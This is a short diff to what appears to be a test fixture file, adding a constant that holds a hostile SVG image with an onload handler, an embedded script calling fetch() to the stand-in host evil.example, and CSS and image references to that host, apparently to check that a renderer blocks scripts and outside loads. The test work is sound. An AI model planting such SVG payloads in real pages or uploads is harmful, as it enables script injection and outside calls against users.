@@ -74,3 +74,7 @@ ${allOf(ASKS)}
 ${allOf(RUNS)}
 </body></html>
 `;
+
+/** An image of the workspace that tries what it can. */
+export const HOSTILE_DRAWING =
+  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="20" onload="top.ran=1"><style>@import "https://evil.example/drawn.css"; rect{fill:url(https://evil.example/drawn.svg#a)}</style><script>top.ran = parent.ran = 1; fetch("https://evil.example/drawn")</script><image xlink:href="https://evil.example/drawn.png" width="9" height="9"/><rect width="80" height="20" fill="green"/></svg>';
